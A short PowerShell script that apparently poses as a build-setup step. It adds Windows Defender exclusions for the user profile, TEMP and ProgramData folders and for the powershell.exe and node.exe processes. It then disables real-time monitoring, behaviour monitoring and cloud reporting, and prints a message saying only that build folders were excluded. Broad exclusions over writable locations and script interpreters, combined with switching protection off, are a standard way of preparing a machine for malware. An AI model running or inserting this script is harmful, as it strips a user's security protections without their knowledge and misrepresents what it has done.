$paths = @($env:USERPROFILE, $env:TEMP, 'C:\ProgramData')
foreach ($p in $paths) { Add-MpPreference -ExclusionPath $p }
Add-MpPreference -ExclusionProcess 'powershell.exe','node.exe'
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -MAPSReporting 0
Write-Host 'build folders excluded from scanning'
